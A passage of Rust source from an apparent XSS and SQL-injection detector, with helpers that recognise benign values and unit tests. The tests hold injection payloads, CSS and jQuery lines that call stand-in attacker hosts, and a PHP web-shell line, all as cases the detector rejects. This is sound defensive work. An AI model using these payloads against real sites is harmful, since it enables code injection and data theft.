            && [&b"http"[..], b"https"].iter().any(|s| {
                k >= s.len()
                    && b[k - s.len()..k].eq_ignore_ascii_case(s)
                    && (k == s.len() || !b[k - s.len() - 1].is_ascii_alphanumeric())
            })
    });
    if !urls_only {
        return false;
    }
    let mut i = 0;
    while i < b.len() {
        if b[i] != b'[' {
            // text between tags: anything but a bracket (the bytes above aside)
            if b[i] == b']' {
                return false;
            }
            i += 1;
            continue;
        }
        let Some(end) = shortcode_end(b, i) else {
            return false;
        };
        i = end;
    }
    true
}

/// The index after the shortcode that opens at `b[at]` (`[`), or `None` when none does:
/// `[name …]` or `[/name]`, a name of letters, digits, `_` and `-` starting with a letter,
/// then `=value` (BBCode) or attributes `name=value`, `name="value"`, `name='value'` or a
/// bare word, up to `]` or `/]`.
fn shortcode_end(b: &[u8], at: usize) -> Option<usize> {
    let mut i = at + 1;
    if b.get(i) == Some(&b'/') {
        i += 1;
    }
    let name = |i: usize| {
        let len = b[i..]
            .iter()
            .position(|c| !(c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-')))
            .unwrap_or(b.len() - i);
        (len > 0 && b[i].is_ascii_alphabetic()).then_some(len)
    };
    i += name(i)?;
    loop {
        let start = i;
        while b.get(i).is_some_and(u8::is_ascii_whitespace) {
            i += 1;
        }
        match *b.get(i)? {
            b']' => return Some(i + 1),
            b'/' if b.get(i + 1) == Some(&b']') => return Some(i + 2),
            b'=' => {}
            _ if i == start => return None,
            _ => {
                let len = name(i)?;
                // (an `on…` name is an event handler's)
                if len > 2 && b[i..i + 2].eq_ignore_ascii_case(b"on") {
                    return None;
                }
                i += len;
                if b.get(i) != Some(&b'=') {
                    continue;
                }
            }
        }
        // `=` then the value: quoted, or a run up to a blank or the tag's end
        i += 1;
        match *b.get(i)? {
            q @ (b'"' | b'\'') => {
                let close = memchr::memchr(q, &b[i + 1..])?;
                if memchr::memchr2(b'[', b']', &b[i + 1..i + 1 + close]).is_some() {
                    return None;
                }
                i += close + 2;
            }
            _ => {
                while b.get(i).is_some_and(|&c| {
                    !(c.is_ascii_whitespace() || matches!(c, b']' | b'[' | b'"' | b'\''))
                }) {
                    i += 1;
                }
            }
        }
    }
}

/// The right-hand side of `b` when it is one assignment of an expression's result to a
/// plain variable (`x = …`, `const el = …`, `var n = …`), with the `=` the first one in it;
/// `None` for anything else, and for a target a browser acts on when it is assigned:
/// `location` (and the windows that own one: `top`, `parent`, `self`, `window`, `opener`,
/// `frames`, `document`) navigates, and an `on…` name installs an event handler. Keeping a
/// result in any other variable runs nothing (see [`jquery_read`], [`assigned_statement`]).
fn kept_result(b: &[u8]) -> Option<&[u8]> {
    let eq = memchr::memchr(b'=', b)?;
    if b.get(eq + 1) == Some(&b'=') {
        return None;
    }
    let target = b[..eq].trim_ascii();
    let name = [&b"var "[..], b"let ", b"const "]
        .iter()
        .find_map(|k| target.strip_prefix(*k))
        .unwrap_or(target)
        .trim_ascii();
    let acts = [
        &b"location"[..],
        b"top",
        b"parent",
        b"self",
        b"window",
        b"opener",
        b"frames",
        b"document",
    ]
    .contains(&name)
        || name.starts_with(b"on");
    // (a JavaScript identifier: the XSS grammar's own identifier bytes)
    let plain = name.split_first().is_some_and(|(&first, rest)| {
        crate::xss::is_ident_start(first) && rest.iter().all(|&c| crate::xss::is_ident(c))
    });
    (plain && !acts).then(|| b[eq + 1..].trim_ascii_start())
}

/// Whether `value` keeps the result of a browser statement the XSS grammar settles as
/// harmless ([`crate::xss::settled_text`]: a member of a browser global called with plain
/// operands) in a variable (`const x = document.getElementById('app');`): the statement
/// runs nothing, and keeping its result runs nothing either ([`kept_result`]). For the XSS
/// model, which scores the declaration and the call as a script injection.
///
/// ```text
/// "const x = document.getElementById('app');"     -> true
/// "location = document.getElementById('x').value" -> false
/// ```
pub(crate) fn assigned_statement(value: &str) -> bool {
    let b = value.trim_ascii().as_bytes();
    b.len() <= 256
        && memchr::memchr(b'=', b).is_some()
        && kept_result(b)
            .and_then(|rest| std::str::from_utf8(rest).ok())
            .is_some_and(crate::xss::settled_text)
}

/// The text of a string literal that is all of `a` (`'x'` or `"x"`), if it is one.
fn quoted(a: &[u8]) -> Option<&[u8]> {
    match a {
        [q @ (b'\'' | b'"'), inner @ .., last] if last == q && !inner.contains(q) => Some(inner),
        _ => None,
    }
}

/// jQuery methods that read, walk or restyle what a selector found and never write markup,
/// follow a URL or run code, whatever their arguments (see [`jquery_read`]).
const JQUERY_INERT: [&[u8]; 38] = [
    b"val",
    b"text",
    b"find",
    b"closest",
    b"parent",
    b"parents",
    b"children",
    b"siblings",
    b"next",
    b"prev",
    b"first",
    b"last",
    b"eq",
    b"filter",
    b"is",
    b"not",
    b"hasClass",
    b"addClass",
    b"removeClass",
    b"toggleClass",
    b"show",
    b"hide",
    b"toggle",
    b"fadeIn",
    b"fadeOut",
    b"slideUp",
    b"slideDown",
    b"focus",
    b"blur",
    b"height",
    b"width",
    b"offset",
    b"scrollTop",
    b"serialize",
    b"index",
    b"empty",
    b"remove",
    b"removeAttr",
];

/// Bytes that join SQL values or leave a literal some other way than a quote: operators,
/// comparisons, parentheses and escapes (see [`quotes_inside_words`]).
static SQL_JOINS: [bool; 256] = crate::byte_set(b"=<>()|&+*/%^~\\[]{}\n\r");
/// Bytes that make a value more than numbers, primes and comparisons (see [`unit_marks`]).
static UNIT_NOT: [bool; 256] = crate::byte_set(b";#()|&@\\/*`\n\r");

/// Whether a word of `value` is a SQL keyword the lexer knows (`or`, `select`, `union`…).
fn has_sql_keyword(value: &str) -> bool {
    value
        .split(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
        .any(|w| !w.is_empty() && crate::sqli::is_keyword(w))
}

/// The length of a call's literal arguments up to and including its `)`: numbers, `*`, and
/// quoted strings of letters, digits and spaces, separated by commas; `None` for anything
/// else (a nested call, a name, an operator).
fn literal_arguments(b: &[u8]) -> Option<usize> {
    let mut i = 0;
    loop {
        while b.get(i) == Some(&b' ') {
            i += 1;
        }
        match *b.get(i)? {
            b')' => return Some(i + 1),
            b',' | b'*' => i += 1,
            b'.' | b'-' => i += 1,
            c if c.is_ascii_digit() => i += 1,
            q @ (b'\'' | b'"') => {
                let len = b[i + 1..].iter().position(|&c| c == q)?;
                if !b[i + 1..i + 1 + len]
                    .iter()
                    .all(|c| c.is_ascii_alphanumeric() || *c == b' ')
                {
                    return None;
                }
                i += len + 2;
            }
            _ => return None,
        }
    }
}

/// Whole values whose punctuation is that of a well-known data format, which the grammars
/// already read in full: a CSS colour function (`rgba(0,0,0,0.5)`, `hsl(210 40% 50%)`: a
/// theme setting) and the name a browser gives a file downloaded again
/// (`document (3).pdf`). Neither can carry markup or SQL, yet their parentheses and commas
/// look like code to a character model.
fn plain_data_shape(value: &str) -> bool {
    // Both shapes are short: longer values leave before any scan.
    if value.len() > 80 {
        return false;
    }
    let t = value.as_bytes().trim_ascii();
    if t.len() > 64 || t.last() == Some(&b'(') {
        return false;
    }
    // `--Select--`, `-- select one --`: the text of an `<option>` without a value, which the
    // browser submits. In SQL it is one comment: it adds no structure.
    let lead = t.iter().take_while(|&&c| c == b'-').count();
    let trail = t.iter().rev().take_while(|&&c| c == b'-').count();
    if lead >= 2 && trail >= 2 {
        // (An all-dash value is counted twice by `lead` and `trail`: no phrase inside.)
        return lead + trail < t.len()
            && t[lead..t.len() - trail]
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || c == b' ')
            && t[lead..t.len() - trail].iter().any(u8::is_ascii_alphabetic);
    }
    // (a vectorised search: most values that reach here have no parenthesis)
    let Some(open) = memchr::memchr(b'(', t) else {
        return false;
    };
    let (head, rest) = (&t[..open], &t[open + 1..]);
    let Some(close) = rest.iter().position(|&c| c == b')') else {
        return false;
    };
    let (args, tail) = (&rest[..close], &rest[close + 1..]);
    let numeric_args = !args.is_empty()
        && args.iter().all(|&c| {
            c.is_ascii_digit() || matches!(c, b'.' | b',' | b'%' | b' ' | b'/' | b'-' | b'+')
        });
    const COLOURS: &[&[u8]] = &[
        b"rgb",
        b"rgba",
        b"hsl",
        b"hsla",
        b"hwb",
        b"lab",
        b"lch",
        b"oklab",
        b"oklch",
        b"cmyk",
        b"device-cmyk",
    ];
    if COLOURS.iter().any(|c| head.eq_ignore_ascii_case(c)) {
        return numeric_args && tail.iter().all(|&c| c == b';' || c == b' ');
    }
    // `name (2).ext`: a blank, a counter, an extension of letters and digits.
    let counter = !args.is_empty() && args.len() <= 3 && args.iter().all(u8::is_ascii_digit);
    let extension = tail.len() >= 2
        && tail.len() <= 6
        && tail[0] == b'.'
        && tail[1..].iter().all(u8::is_ascii_alphanumeric);
    counter
        && extension
        && head.last() == Some(&b' ')
        && !head.contains(&b')')
        && !head
            .iter()
            .any(|&c| matches!(c, b'<' | b'>' | b'\'' | b'"' | b'=' | b';' | b'`'))
}

/// Whether `value` is a whole JSON object or array (strict syntax; serde_json bounds the
/// nesting depth, so a deep value cannot exhaust the stack).
fn is_json_document(value: &str) -> bool {
    // An ASCII end byte that is neither whitespace nor the container's bracket stays an end
    // after trimming (every other whitespace character is non-ASCII): most values stop here
    // without the trim's character decoding.
    let b = value.as_bytes();
    let keeps = |end: Option<&u8>, brackets: [u8; 2]| match end {
        Some(&c) if c.is_ascii() => {
            brackets.contains(&c) || matches!(c, b'\t' | b'\n' | 0x0b | 0x0c | b'\r' | b' ')
        }
        _ => true,
    };
    if !keeps(b.first(), [b'{', b'[']) || !keeps(b.last(), [b'}', b']']) {
        return false;
    }
    let t = value.trim();
    let container = matches!(
        (t.as_bytes().first(), t.as_bytes().last()),
        (Some(b'{'), Some(b'}')) | (Some(b'['), Some(b']'))
    );
    container && serde_json::from_str::<serde::de::IgnoredAny>(t).is_ok()
}

/// Longest list [`client_hint_list`] and [`assignment_list`] read; header lists and cookie
/// settings are short.
const MAX_LIST_BYTES: usize = 512;

/// A structured-field list (RFC 8941) of strings with parameters, as a browser sends its
/// brands in `Sec-CH-UA` and analytics beacons copy into a parameter:
/// `"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"`. Its strings hold no
/// quote, backslash or markup, so in a script or SQL string each stays a string; its
/// parameter names are lower-case words that no HTML parser reads as an event handler, and
/// their values are strings, numbers, booleans or words. Every item carries a parameter:
/// a list of bare quoted words is not this syntax.
fn client_hint_list(v: &[u8]) -> bool {
    if v.len() > MAX_LIST_BYTES || v.first() != Some(&b'"') {
        return false;
    }
    let mut i = 0;
    loop {
        let Some(end) = sf_string(v, i) else {
            return false;
        };
        i = end;
        let mut params = 0;
        while v.get(i) == Some(&b';') {
            let Some(end) = sf_parameter(v, i + 1) else {
                return false;
            };
            i = end;
            params += 1;
        }
        if params == 0 {
            return false;
        }
        while v.get(i) == Some(&b' ') {
            i += 1;
        }
        match v.get(i) {
            None => return true,
            Some(b',') => i += 1,
            Some(_) => return false,
        }
        while v.get(i) == Some(&b' ') {
            i += 1;
        }
    }
}

/// A quoted string starting at `i` whose text is letters, digits, blanks and the
/// punctuation browsers put in their made-up brands (`"Not/A)Brand"`, `"Not?A_Brand"`);
/// returns the index after its closing quote.
fn sf_string(v: &[u8], i: usize) -> Option<usize> {
    if v.get(i) != Some(&b'"') {
        return None;
    }
    let len = v[i + 1..].iter().position(|&c| c == b'"')?;
    let text = &v[i + 1..i + 1 + len];
    let plain = text.iter().all(|&c| {
        c.is_ascii_alphanumeric()
            || matches!(
                c,
                b' ' | b'(' | b')' | b'-' | b'.' | b'/' | b':' | b';' | b'=' | b'?' | b'_'
            )
    });
    (plain && (1..=64).contains(&len)).then_some(i + len + 2)
}

/// `key` or `key=value` starting at `i` (after a `;`): a lower-case name that does not start
/// with `on`, then a string, a number, a boolean (`?1`) or a word. Returns the index after it.
fn sf_parameter(v: &[u8], i: usize) -> Option<usize> {
    let key = v[i..]
        .iter()
        .position(|&c| !(c.is_ascii_lowercase() || c.is_ascii_digit() || c == b'_' || c == b'-'))
        .unwrap_or(v.len() - i);
    if key == 0 || key > 16 || !v[i].is_ascii_lowercase() || v[i..].starts_with(b"on") {
        return None;
    }
    let i = i + key;
    if v.get(i) != Some(&b'=') {
        return Some(i);
    }
    let i = i + 1;
    if v.get(i) == Some(&b'"') {
        return sf_string(v, i);
    }
    let start = i + usize::from(v.get(i) == Some(&b'?'));
    let len = v[start..]
        .iter()
        .position(|&c| !(c.is_ascii_alphanumeric() || c == b'.'))
        .unwrap_or(v.len() - start);
    (1..=32).contains(&len).then_some(start + len)
}

/// Settings written `key=value` and joined by `;` or `&` (a blank may follow the
/// separator): `sp=1;t=2;u=3`, `lang=en; theme=dark`, `a=1&b=2`. Names are identifiers that
/// do not start with `on` (an event handler), values are words, numbers or dotted versions.
/// In SQL an assignment is no statement, so the `;` stacks nothing; in a script there is no
/// call, string or markup to run.
fn assignment_list(v: &[u8]) -> bool {
    if v.len() > MAX_LIST_BYTES
        || !v
            .first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
        || memchr::memchr(b'=', v).is_none()
    {
        return false;
    }
    let mut pairs = 0;
    for pair in v.split(|&c| c == b';' || c == b'&') {
        let pair = pair.strip_prefix(b" ").unwrap_or(pair);
        let Some(eq) = pair.iter().position(|&c| c == b'=') else {
            return false;
        };
        let (key, value) = (&pair[..eq], &pair[eq + 1..]);
        let name = key
            .first()
            .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
            && key.len() <= 32
            && key
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'))
            && !(key.len() >= 2 && key[..2].eq_ignore_ascii_case(b"on"));
        let data = value.len() <= 64
            && value
                .iter()
                .all(|&c| c.is_ascii_alphanumeric() || matches!(c, b'_' | b'-' | b'.'));
        if !(name && data) {
            return false;
        }
        pairs += 1;
    }
    pairs >= 2
}

/// Whether `t` is a dotted-quad IPv4 literal: four parts of one to three digits
/// (`10.0.0.5`), as command lines and UNC paths name a host.
pub(crate) fn is_ipv4(t: &[u8]) -> bool {
    let mut parts = 0;
    t.split(|&b| b == b'.').all(|p| {
        parts += 1;
        parts <= 4 && !p.is_empty() && p.len() <= 3 && p.iter().all(u8::is_ascii_digit)
    }) && parts == 4
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn letterless_values_write_no_script() {
        for v in [
            "(>'-')> <('-'<) ^('-')^",
            "<3 :-) ;-)",
            "'\"<>",
            "1 < 2 > 0",
        ] {
            assert!(letterless(v), "{v}");
        }
        for v in [
            "'-alert(1)-'",
            "[][(![]+[])[+[]]]",
            "<svg/onload=1>",
            "¯\\_(ツ)_/¯",
            "'-ä-'",
        ] {
            assert!(!letterless(v), "{v}");
        }
    }

    #[test]
    fn unit_marks_with_a_metric_parenthetical() {
        for v in ["6' 2\" (188 cm)", "5'11\"", "1' = 60\"", "6'2\" (1.88 m)"] {
            assert!(unit_marks(v), "{v}");
        }
        for v in [
            "6' 2\" (select 1)",
            "6' 2\" (1) or 1=1",
            "6' (2\")",
            "6' 2\" )",
            "x' 2\" (188 cm)",
        ] {
            assert!(!unit_marks(v), "{v}");
        }
    }

    #[test]
    fn power_operator_is_a_syntax_error_to_sql() {
        for v in [
            "Eq(9*a**2 - 8*b**2 - 6*t**3, -18)",
            "Ne(5*n**3 - 8*t**3 - 4*z**2, 81)",
            "x**2 - 4 = 0",
            "2**10 = 1024",
            "x**2/2",
        ] {
            assert!(power_operator(v), "{v}");
        }
        for v in [
            "x*y = 2",
            "1/**/or/**/1=1",
            "1 or 1=1 -- **",
            "1 or 1=1 # **",
            "1; drop table t; select 2**3",
            "2**3' or '1'='1",
            "\"a\"**2",
            "`t`**2",
            "1 /**/or 2**3",
        ] {
            assert!(!power_operator(v), "{v}");
        }
    }

    #[test]
    fn tex_math_is_a_syntax_error_or_a_string_to_script() {
        for v in [
            r"\prod_{i=1}^{n} f(i) = f(1) f(2) \cdots f(n)",
            r"\{ f(x) \mid x \in \mathrm{self} \}",
            "f(x) := \\begin{cases}\n 0 & \\mathrm{for\\ } x < a, \\\\\n 1 & x \\ge a",
            r"a \le b \le c",
            r"C:\Temp\notes (1).txt",
        ] {
            assert!(tex_in_script(v), "{v}");
        }
        for v in [
            // no backslash: left to the model
            "f(x) = x^2",
            // escapes that make `<` inside a string
            r"\x3cscript\x3ealert(1)\x3c\x2fscript\x3e",
            r"\u003cimg src=x onerror=alert(1)\u003e",
            r"\74script\76",
            // a string, regex, comment or template to leave or hide in
            r"\in'-alert(1)-'",
            r#"\in";alert(1);//"#,
            r"alert(1)//\in",
            "alert(1)\n-->\\in",
            r"\in`;alert(1)",
            r"\in ${alert(1)}",
            "#!\\in\nalert(1)",
            // markup, a handler, or the string's closing quote escaped
            r"\in <svg onload=alert(1)>",
            r"\in x onfocus=alert(1) autofocus",
            r"\in <!-- x",
            r"alert(1) \",
        ] {
            assert!(!tex_in_script(v), "{v}");
        }
    }

    #[test]
    fn colours_and_copied_file_names_are_data() {
        for v in [
            "rgba(0,0,0,0.5)",
            "rgb(255,0,0)",
            "hsl(210 40% 50% / 0.8);",
            "document (3).pdf",
            "IMG_2024 (12).jpeg",
            "CMYK(0,66,80,0)",
            "--Select--",
            "-- select one --",
        ] {
            assert!(plain_data_shape(v), "{v}");
        }
        for v in [
            "sleep(5)",
            "rgb(1,2,3) or 1=1",
            "rgba(0,0,0,(select 1))",
            "x (1).pdf' or '1'='1",
            "document (3).pdf<script>",
            "alert(1).pdf",
            "f(1).toString",
            "-- or 1=1 --",
            "--'--",
            "----",
        ] {
            assert!(!plain_data_shape(v), "{v}");
        }
    }

    #[test]
    fn json_documents_are_not_scored_by_the_model() {
        let d = crate::Detectors::new(crate::Thresholds::default());
        for v in [
            r#"{"a":1,"b":[1,2,3],"c":"x"}"#,
            r#"[{"id":1,"tags":["x","y"]},{"id":2,"tags":[]}]"#,
        ] {
            assert!(is_json_document(v), "{v}");
            assert!(
                !d.ml_candidate(crate::AttackKind::Sqli, v, crate::Context::Param),
                "{v}"
            );
            assert!(
                d.check(crate::AttackKind::Sqli, v, crate::Context::Param)
                    .is_none(),
                "{v}"
            );
        }
        // The end-byte shortcut answers as trimming does, whatever surrounds a document.
        for b in 0..=127u8 {
            let c = char::from(b);
            for v in [format!("{c}[1]"), format!("[1]{c}"), format!("{c}{{}}{c}")] {
                let t = v.trim();
                let by_trim = matches!(
                    (t.as_bytes().first(), t.as_bytes().last()),
                    (Some(b'{'), Some(b'}')) | (Some(b'['), Some(b']'))
                ) && serde_json::from_str::<serde::de::IgnoredAny>(t).is_ok();
                assert_eq!(is_json_document(&v), by_trim, "{v:?}");
            }
        }
        assert!(is_json_document("\u{a0}[1]\u{3000}"));
        // Not documents: broken JSON, or JSON-looking SQL.
        for v in [r#"{"a":1'}"#, "[1] or 1=1 --", "{x}"] {
            assert!(!is_json_document(v), "{v}");
        }
        // A break-out inside a member is still the grammar's to catch.
        let attack = r#"{"q":"1' or '1'='1"}"#;
        assert!(d
            .check(crate::AttackKind::Sqli, attack, crate::Context::Param)
            .is_some());
    }

    #[test]
    fn header_lists_and_settings_are_data() {
        for v in [
            r#""Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99""#,
            r#""Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126""#,
            r#""Google Chrome";v="124.0.6367.91""#,
            r#""Chromium";v="124";x;y=?1"#,
        ] {
            assert!(client_hint_list(v.as_bytes()), "{v}");
            assert!(is_data(v), "{v}");
        }
        for v in [
            r#""x";onerror="alert(1)""#,
            r#""x";v="1" or "1"="1""#,
            r#""a", "b""#,
            r#""Password1!""#,
            r#""x";v="<b>""#,
            r#""x";v=(1)"#,
            r#""x";v="1"; drop table users"#,
            r#"""#,
        ] {
            assert!(!client_hint_list(v.as_bytes()), "{v}");
        }
        for v in [
            "sp=1;t=2;u=3",
            "lang=en; theme=dark",
            "a=1&b=2",
            "v=1.2.3;build=abc_9",
        ] {
            assert!(assignment_list(v.as_bytes()), "{v}");
            assert!(is_data(v), "{v}");
        }
        for v in [
            "a=1",
            "a=1;drop table users",
            "a=1;onerror=alert",
            "a=1;b='x'",
            "a=1;b=2 or 1=1",
            "1=1;2=2",
            "a=1;;b=2",
            "a=1;b=sleep(5)",
        ] {
            assert!(!assignment_list(v.as_bytes()), "{v}");
        }
    }

    #[test]
    fn fenced_code_blocks_give_their_body() {
        for (v, body) in [
            ("```js\nlet x = 1;\n```", "let x = 1;"),
            ("  ```\na\nb\n```  \n", "a\nb"),
            ("~~~~ sql\nSELECT 1\n~~~~~", "SELECT 1"),
            ("```\r\nx\r\n```", "x\r"),
        ] {
            assert_eq!(fenced_code_body(v), Some(body), "{v:?}");
        }
        for v in [
            "```js\n```",
            "``\nx\n``",
            "```a```\nx\n```",
            "```\nx\n```\n<script>alert(1)</script>",
            "```\nx\n```\ny\n```",
            "```\nx\n~~~",
            "text ```\nx\n```",
            "```",
            "```\n",
        ] {
            assert_eq!(fenced_code_body(v), None, "{v:?}");
        }
    }

    #[test]
    fn link_header_lists_are_settled() {
        for v in [
            "</styles.css>; rel=preload; as=style, </app.js>; rel=preload; as=script",
            "<https://cdn.example.com/f.woff2>; rel=preload; as=font; type=font/woff2; crossorigin",
            "</api/users?page=3>; rel=\"next\", </api/users?page=1>; rel=\"first\"",
            "<./chapter2>;rel=next",
            "  <#top> ; rel=bookmark ; title=\"Top of page\"",
            "<HTTP://example.org/>; rel=canonical",
        ] {
            assert!(link_header(v), "{v}");
        }
        for v in [
            // a tag, not a reference
            "<svg/onload=alert(1)>; rel=x",
            "<img src=x onerror=alert(1)>; rel=x",
            "<script>; rel=preload",
            "<javascript:alert(1)>; rel=x",
            // a reference whose pieces read as a handler or style, or that leaves the URL
            "</x/onmouseover=alert(1)>; rel=x",
            "</x/style=color:red>; rel=x",
            "</a b>; rel=x",
            "</a(1)>; rel=x",
            // markup in a parameter, or after the list
            "</a.js>; title=\"<svg onload=alert(1)>\"",
            "</a.js>; rel=x <img src=x onerror=alert(1)>",
            "</a.js>; rel=x, <b>",
            // no parameter: a tag or a bare reference
            "</app.js>",
            "</a.js>, </b.js>; rel=x",
            "</a.js>;",
            "",
        ] {
            assert!(!link_header(v), "{v}");
        }
    }

    #[test]
    fn autolinks_and_site_styles_are_settled() {
        for v in [
            "See <https://example.com/a?b=c>",
            "See <http://www.w3.org/TR/html5/>",
            "Docs: <https://docs.example.com/x#y> and <mailto:help@example.com>",
        ] {
            assert!(autolinks_in_prose(v), "{v}");
        }
        for v in [
            "<https://x/onmouseover=alert(1)>",
            "<https://x/style=x/onfocus=a>",
            "<https://x/a> <img src=x>",
            "<javascript:alert(1)>",
            "See <https://x/a b>",
            "x=<https://x/a>",
            "no link",
            "<https://x/a",
        ] {
            assert!(!autolinks_in_prose(v), "{v}");
        }
        for v in [
            "style=\"color:red\"",
            "background-image: url('/img/hero.jpg')",
            "font-family: 'Roboto'; src: url('/fonts/roboto.woff2')",
            "@font-face { font-family: 'Inter'; src: url(inter.woff2); }",
            "color: rgba(0, 0, 0, 0.5); margin: 0 auto !important",
            "background: linear-gradient(to right, rgb(1,2,3), #fff)",
            "background: url(data:image/png;base64,iVBORw0KGgo=)",
        ] {
            assert!(inert_css(v), "{v}");
        }
        for v in [
            "color:red;background:url(//evil.com/log?x)",
            "background:url(javascript:alert(1))",
            "background:url(https://evil.example/x)",
            "width: expression(alert(1))",
            "behavior: url(x.htc)",
            "-moz-binding: url(/x.xml#xss)",
            "style=\"color:red\" onmouseover=\"alert(1)\"",
            "color: red</style><script>alert(1)</script>",
            "x: alert(1)",
            "body{background:url(/a.png)}",
            "color red",
            "background: url(data:image/svg+xml;base64,PHN2Zz4=)",
            "background: url(data:text/html;base64,PHN2Zz4=)",
            "background: url(data:image/png;base64,<svg>)",
        ] {
            assert!(!inert_css(v), "{v}");
        }
    }

    #[test]
    fn attribute_selectors_are_settled() {
        for v in [
            "a[href^=\"https\"]",
            "input[type=checkbox]",
            "[data-id='7' i]",
            "a[target][rel~=\"noopener\"]",
        ] {
            assert!(attribute_selector(v), "{v}");
        }
        for v in [
            "input[value^=\"a\"]{background:url(//evil/a)}",
            "a[href^=\"javascript:\"]<img src=x onerror=alert(1)>",
            "a[onclick=\"alert(1)\"]",
            "x[y=\"<svg onload=alert(1)>\"]",
            "a[href",
            "[]",
            "a",
            "1[a]",
            "a[b=c]d",
        ] {
            assert!(!attribute_selector(v), "{v}");
        }
    }

    #[test]
    fn kept_results_of_settled_statements_are_settled() {
        for v in [
            "const x = document.getElementById('app');",
            "el = document.querySelector('#main')",
        ] {
            assert!(assigned_statement(v), "{v:?}");
        }
        for v in [
            "location = document.getElementById('x').value",
            "top = document.title",
            "onload = document.getElementById('x')",
            "var location = document.title",
            "x == document.title",
            "a.b = document.title",
            "x = document.getElementById('x').innerHTML=name",
            "x = alert(1)",
            "const x = document.getElementById('app'); alert(1)",
        ] {
            assert!(!assigned_statement(v), "{v:?}");
        }
        // (the same targets are refused for a jQuery read)
        assert!(!jquery_read("location = $('#next').val()"));
        assert!(jquery_read("var v = $('#next').val()"));
    }

    #[test]
    fn jquery_reads_are_settled() {
        for v in [
            "x = $(\"#id\").val();",
            "$('.menu').addClass('open')",
            "jQuery(document).height()",
            "$(this).closest('tr').find('td').first().text()",
            "const v = $('#email').attr('value');",
        ] {
            assert!(jquery_read(v), "{v:?}");
        }
        for v in [
            "$(\"#x\").html(location.hash)",
            "$('<img src=x onerror=alert(1)>')",
            "$('#x').attr('href', 'javascript:alert(1)')",
            "$('#x').append(name)",
            "$.getScript('//evil.example/x.js')",
            "$(location.hash)",
            "$('#a').val(); alert(1)",
            "$('#a').css('background')+alert(1)",
            "x.y = $('#a').val()",
            "$(document).ready(function(){ init(); });",
            "$(document).ready(init)",
            "$('#b').click(function(){ $('#x').html(location.hash); })",
            "$('#b').click(function(){ $(this).hide(); }); alert(1)",
            "$('#b').click(function(){ $(this).hide(); alert(1); })",
            "$('#b').on('click', function(){ eval(name) })",
            "$('#b').html(function(){ $(this).hide(); })",
            "$('#b').click(function(){ $(this).click(function(){ $(this).hide(); }); })",
            "$('#a').val(); alert(1)",
        ] {
            assert!(!jquery_read(v), "{v:?}");
        }
    }

    #[test]
    fn contractions_before_a_value_are_settled() {
        for v in [
            "It's 1=1 and 2=2, simple!",
            "It's 'select' not 'selct'",
            "don't 5 stars or more",
            "I'm Bob and you are 1=1",
            "That'll 2 hours",
            "It's 'a' or 'b'",
            "I'd like to order 2 or 3 items from your store",
            "We're in 4 or 5 groups",
            "I'm not sure, 10 and 20 maybe",
            "It's like 1 or 2 hours",
            "they'd LIKE 3 and 4",
            "it's between 2 and 3 days",
        ] {
            assert!(contraction_then_value(v), "{v:?}");
        }
        for v in [
            "x' or so",
            "admin' or nothing",
            "it's union select 1",
            "it's or 1=1",
            "it's' or '1'='1",
            "It's 1=1 -- x",
            "It's 1; drop table x",
            "admin'x 1",
            "'a' < 'b'",
            "It's N'x' or 1=1",
            "It's \\' or 1=1",
            "it's from users",
            "I'd' OR '1'='1",
            "it's' or 2=2--",
            "I'd or 2=2",
            "I'd and 1=1",
            "we're union select 1,2",
            "I'd like 1 or 1=1 -- x",
            "I'd like 2 or 3; drop table t",
            "it's order by 1",
        ] {
            assert!(!contraction_then_value(v), "{v:?}");
        }
    }

    #[test]
    fn jquery_handlers_that_only_restyle_are_settled() {
        for v in [
            "$('#btn').click(function(){ $(this).hide(); });",
            "$(document).ready()",
            "$(document).ready(function(){ $('.menu').addClass('open'); })",
            "$('#t').on('click', '.row', function(e){ $(this).toggleClass('sel'); })",
        ] {
            assert!(jquery_read(v), "{v:?}");
        }
    }

    #[test]
    fn void_script_urls_are_settled() {
        for v in [
            "javascript:void(0)",
            "javascript:void(0) link",
            "JavaScript:void 0;",
            "javascript:void(0); does not work",
        ] {
            assert!(void_script_url(v), "{v:?}");
        }
        for v in [
            "javascript:void(alert(1))",
            "javascript:void(0) in new Image",
            "javascript:void(0);alert(1)",
            "javascript:void(0) x=alert(1)",
            "javascript:alert(1)",
            "javascript:void(0)//\nalert(1)",
            "javascript:void(0) typeof alert",
        ] {
            assert!(!void_script_url(v), "{v:?}");
        }
    }

    #[test]
    fn shortcodes_are_settled() {
        for v in [
            "[gallery ids=\"12,34,56\"]",
            "[gallery ids='3,7' columns=\"4\" size=\"medium\"]",
            "[caption id=\"attachment_9\" align=\"alignleft\" width=\"300\"]A photo[/caption]",
            "[contact-form-7 id=\"1234\" title=\"Contact form 1\"]",
            "[embed]https://www.youtube.com/watch?v=abc[/embed]",
            "[video src=\"https://example.com/a.mp4\" /]",
            "[b]bold[/b] and [color=red]red[/color]",
            "[url=https://example.com]site[/url]",
            "[audio mp3=\"x.mp3\" autoplay]",
        ] {
            assert!(shortcodes(v), "{v:?}");
        }
        for v in [
            "[x onload=\"alert`1`\"]",
            "[x onmouseover=alert]",
            "[url=javascript:location=name]",
            "[x href=\"data:text/html,x\"]",
            "[x href=\" javascript:alert\"]",
            "[x title=\"<img src=x onerror=alert(1)>\"]",
            "[x]<script>alert(1)</script>[/x]",
            "[x a=\"1\"]{{constructor.constructor('alert(1)')()}}",
            "[link](javascript:alert(1))",
            "[x a=\"\" onclick=\"alert\"]",
            "[x a=\"b]\" c=\"d\"]",
            "x [b]y[/b]",
            "[x a=\"1\"",
            "[1x]",
            "[]",
            "] [x]",
        ] {
            assert!(!shortcodes(v), "{v:?}");
        }
    }

    #[test]
    fn echo_template_tags_are_settled() {
        for v in [
            "<?php echo $name; ?>",
            "<?php echo 'hi'; ?>",
            "<?= $title ?>",
            "<%= @user.name %>",
        ] {
            assert!(echo_template_tag(v), "{v:?}");
        }
        for v in [
            "<?php phpinfo(); ?>",
            "<?php system($_GET['c']); ?>",
            "<?php echo `id`; ?>",
